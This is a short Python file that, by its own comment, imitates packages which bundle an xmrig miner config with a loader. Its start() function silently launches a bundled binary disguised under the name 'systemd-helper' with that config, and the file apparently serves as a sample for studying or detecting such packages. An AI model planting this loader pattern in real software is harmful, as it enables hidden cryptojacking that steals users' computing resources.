# Imitates packages that ship an xmrig config.json next to a loader which starts the bundled miner with it.
import subprocess
from pathlib import Path

HERE = Path(__file__).parent


def start():
    subprocess.Popen([str(HERE / "bin" / "systemd-helper"), "--config", str(HERE / "config.json")])
